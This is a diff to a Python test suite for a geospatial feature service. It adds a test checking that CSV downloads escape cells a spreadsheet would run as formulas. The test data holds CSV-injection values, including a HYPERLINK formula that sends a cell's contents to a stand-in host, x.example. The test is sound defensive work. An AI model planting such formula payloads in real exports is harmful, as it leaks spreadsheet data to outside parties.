@@ -3,7 +3,9 @@ attributes and current features only, and hostile requests refused."""
 
 from __future__ import annotations
 
+import csv
 import datetime
+import io
 import json
 import re
 import subprocess
@@ -732,6 +734,28 @@ def test_every_output_format_breaks_sort_ties_by_id(client, parcels, output):
     last_by_id = r'ORDER BY .+, (?:"layers_parcel"\."id"|1) ASC( LIMIT|$)'
     assert all(re.search(last_by_id, statement) for statement in sql), sql
     assert all(statement.startswith('SELECT "layers_parcel"."id"') for statement in sql if ", 1 ASC" in statement)
+
+
+def test_csv_has_no_cell_a_spreadsheet_would_run_as_a_formula(client, block):
+    """A delivered name "=HYPERLINK(…)" would be run by Excel at the ministry that opened the download."""
+    for number, name in enumerate(['=HYPERLINK("http://x.example/?"&A1,"Open")', "+1+2", "@SUM(A1)", "-2+3", "Plain"]):
+        line = LineString((SALMIYA_X, SALMIYA_Y + number), (SALMIYA_X + 50, SALMIYA_Y + number))
+        Street.objects.create(code=f"ST-F{number}", number=str(number), name_ar="شارع", name_en=name,
+                              street_class="local", area=block.area,
+                              geom=MultiLineString(line, srid=settings.SRID))  # fmt: skip
+
+    status, body = _get(client, REQUEST="GetFeature", TYPENAMES="streets", OUTPUTFORMAT="csv", SORTBY="code")
+
+    assert status == 200
+    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8"))))
+    assert [row["name_en"] for row in rows] == [
+        """'=HYPERLINK("http://x.example/?"&A1,"Open")""",
+        "'+1+2",
+        "'@SUM(A1)",
+        "'-2+3",
+        "Plain",
+    ]
+    assert all(row["geom"].startswith("SRID=") for row in rows)  # the geometry as written
 
 
 def test_geojson_writes_decimal_columns_as_numbers_that_gdal_reads_as_reals(client, parcels, planning, tmp_path):
